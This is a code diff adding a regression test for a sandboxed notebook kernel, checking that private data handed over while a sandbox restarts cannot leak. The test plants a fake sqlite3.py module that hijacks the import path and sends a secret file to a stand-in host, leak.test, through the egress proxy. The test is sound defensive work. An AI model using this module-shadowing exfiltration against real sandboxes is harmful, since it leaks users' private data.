@@ -12,7 +12,14 @@ import sys
 import time
 from pathlib import Path
 
-from kernel_helpers import SandboxKernelHandle, reply_to, require_bwrap, shared_data_kernel, status_of
+from kernel_helpers import (
+    RecordingHTTPServer,
+    SandboxKernelHandle,
+    reply_to,
+    require_bwrap,
+    shared_data_kernel,
+    status_of,
+)
 
 from sandbox_kernel.privacy import PrivacyStore, PrivateData
 
@@ -387,3 +394,81 @@ def test_a_session_without_network_gets_private_datasets_only_once_private(tmp_p
         assert "https://exfil.example" not in run.stdout  # outputs are those of a private session
     finally:
         k.shutdown()
+
+
+# A module planted in the workspace that holds a new sandbox's start open (the
+# worker imports a few modules after the folder joins its import path) and,
+# once the connector hands its data over, sends it out through the egress proxy.
+_START_WINDOW_PLANT = r"""
+import os, sys, time, socket, importlib
+_dir = "/.sandbox_kernel/egress"
+_sock = next((_dir + "/" + n for n in os.listdir(_dir)), None) if os.path.isdir(_dir) else None
+if _sock:
+    for _ in range(4000):
+        if os.path.exists("/workspace/secret.txt"):
+            break
+        time.sleep(0.005)
+    if os.path.exists("/workspace/secret.txt"):
+        data = open("/workspace/secret.txt").read().replace(" ", "_")
+        try:
+            s = socket.socket(socket.AF_UNIX); s.connect(_sock)
+            s.sendall(("GET http://leak.test:%s/exfil/" + data + " HTTP/1.1\r\nHost: leak.test\r\n\r\n").encode())
+            open("/workspace/leak.txt", "w").write(s.recv(200).decode(errors="replace"))
+        except OSError as e:
+            open("/workspace/leak.txt", "w").write("refused: %%r" %% e)
+del sys.modules[__name__]
+_saved = list(sys.path); sys.path[:] = [p for p in sys.path if p not in ("", "/workspace")]
+try:
+    sys.modules[__name__] = importlib.import_module(__name__)
+finally:
+    sys.path[:] = _saved
+"""
+
+
+def test_a_rise_while_a_sandbox_starts_is_not_reported_cut_before_it_is(tmp_path: Path) -> None:
+    """While a new sandbox started (after a crash, a restart), the session had
+    no live sandbox to cut: a host-side rise then found nothing to do, wrote
+    "no network" into the enforcement record and ``wait=True`` returned, and
+    the sandbox came up with its proxy uncut. The data the connector handed
+    over then went out (found by an attack review). Now a starting sandbox
+    counts as holding network, its proxy is cut at the rise, and it is
+    replaced by one without network before it runs anything."""
+    require_bwrap()
+    origin = RecordingHTTPServer()
+    for name in ("ws", "tmp", "config"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "config" / "sandbox_kernel_config.py").write_text(
+        "c.SandboxKernel.egress_allow = ['leak.test']\n"
+        "c.SandboxKernel.egress_allow_addresses = ['127.0.0.1']\n"
+        "c.SandboxKernel.egress_name_overrides = {'leak.test': ['127.0.0.1']}\n"
+    )
+    k = SandboxKernelHandle(
+        tmp_path / "ws",
+        tmp_path / "tmp",
+        extra_args=["--SandboxKernel.backend=bwrap"],
+        env={"JUPYTER_CONFIG_DIR": str(tmp_path / "config")},
+    )
+    try:
+        plant = _START_WINDOW_PLANT % origin.port
+        assert k.run(f"open('/workspace/sqlite3.py', 'w').write({plant!r})\nx = 41").status == "ok"
+        state = status_of(k)
+        assert state["network"] == "proxied"
+        time.sleep(1.5)  # the idle checkpoint holds x
+        k.kill_sandboxes()
+        msg_id = k.kc.execute("print(x + 1)")
+        time.sleep(0.3)  # the new sandbox is starting, held by the planted module
+        PrivateData(state["user_id"], state["session_id"], PrivacyStore(k.data_dir / "privacy")).add_private_dataset(
+            "crm", "SECRET", source="connector", wait=True
+        )
+        (k.workspace / "secret.txt").write_text("SSN 123-45-6789")  # handed over once wait=True returned
+        reply_to(k, msg_id, timeout=90)
+        time.sleep(0.5)
+        assert not [path for path in origin.heard if "exfil" in path], origin.heard
+        leak = k.workspace / "leak.txt"
+        assert not leak.exists() or "200" not in leak.read_text().split("\r\n")[0], leak.read_text()
+        assert k.run(IFACES).stdout.strip() == "['lo']"
+        last = k.run("print(x + 1)", stop_on_error=False)
+        assert last.stdout.strip() == "42", (last.stdout, last.stderr, last.errors)  # the state carried over
+    finally:
+        k.shutdown()
+        origin.close()
